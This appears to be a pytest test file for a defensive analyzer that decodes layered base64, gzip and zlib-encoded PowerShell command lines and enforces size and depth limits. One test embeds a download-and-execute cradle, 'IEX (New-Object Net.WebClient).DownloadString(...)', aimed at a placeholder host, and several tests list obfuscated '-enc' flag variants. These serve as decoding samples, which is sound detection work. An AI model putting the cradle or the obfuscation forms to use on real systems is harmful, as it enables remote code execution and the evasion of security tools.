"""Encoded command lines are opened layer by layer, within limits."""

import base64
import gzip
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.psrp.layers import opened


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("option", ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "\u2013enc", "-eNcOd"])
def test_an_encoded_command(option: str) -> None:
    assert opened(f"powershell -nop {option} {encoded('Get-Date | Out-File x')}").text == "Get-Date | Out-File x"


def test_layers_in_layers() -> None:
    inner = f"powershell -enc {encoded('whoami /all # the end')}"
    assert opened(f"powershell -enc {encoded(inner)}").text == f"{inner}\nwhoami /all # the end"


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress, lambda data: zlib.compress(data)[2:-4], bytes])
def test_a_string_that_is_unpacked_by_the_script(pack: object) -> None:
    assert callable(pack)
    script = b"IEX (New-Object Net.WebClient).DownloadString('http://x')"
    text = f"[Convert]::FromBase64String('{base64.b64encode(pack(script)).decode()}')"
    assert opened(text).text == script.decode()


@pytest.mark.parametrize("text", ["", "Get-Date", "powershell -e short", "-enc !!!notbase64!!!", "ls -en AAAAAAAAAAAAAAAAA"])
def test_nothing_is_encoded(text: str) -> None:
    assert opened(text).text is None


@pytest.mark.parametrize("pack", [zlib.compress, gzip.compress, bytes])
@pytest.mark.parametrize("letter", ["A", "\u20ac"])
def test_a_layer_that_is_too_long_is_cut_and_says_so(pack: object, letter: str) -> None:
    assert callable(pack)
    text = letter * ((2 << 20) // len(letter.encode()))
    found = opened(f"FromBase64String('{base64.b64encode(pack(text.encode())).decode()}')")
    assert found.text == text[: (1 << 20) // len(letter.encode())]
    assert found.reached == (f"layer_bytes={1 << 20}: a layer is longer, and was decoded up to there",)


@pytest.mark.parametrize("pack", [zlib.compress, gzip.compress, bytes])
def test_a_layer_of_just_that_size_is_whole(pack: object) -> None:
    assert callable(pack)
    text = "A" * (1 << 20)
    assert opened(f"FromBase64String('{base64.b64encode(pack(text.encode())).decode()}')") == (text, ())


@pytest.mark.parametrize(("layers", "cut"), [(3, False), (4, False), (5, True), (6, True)])
def test_layers_that_are_too_deep_say_so(layers: int, *, cut: bool) -> None:
    text = "whoami /groups /fo list"
    for _ in range(layers):
        text = f"powershell -enc {encoded(text)}"
    found = opened(text)
    assert found.text is not None
    assert found.text.count("\n") == min(layers, 4) - 1
    assert found.reached == (("layers=4: what is encoded deeper was not decoded",) if cut else ())


def test_many_layers_beside_each_other_come_to_an_end() -> None:
    packed = base64.b64encode(zlib.compress(b"A" * 500_000)).decode()
    found = opened(f"FromBase64String('{packed}') " * 6)
    assert found.text is not None
    assert len(found.text) == 2 << 20
    assert found.reached == (f"layer_characters={2 << 20}: what is encoded was decoded up to there",)


WORDS = ("-enc ", "FromBase64String('", "QUFBQUFBQUFBQUFBQUFBQQ==", "')", "\uff0d", "A" * 40)


@given(st.one_of(st.text(max_size=200), st.lists(st.sampled_from(WORDS)).map("".join)))
def test_any_text_is_read(text: str) -> None:
    found = opened(text)
    assert found.text is None or found.text.encode()
    assert not found.reached


@pytest.mark.parametrize("text", ["FromBase64String(" + " " * 200_000, "FromBase64String(('" * 20_000, " -enc " * 50_000, "-enc " + "A" * 500_000])
def test_hostile_texts_take_no_long_time(text: str) -> None:
    found = opened(text)
    assert found.text is None or len(found.text) < 500_000
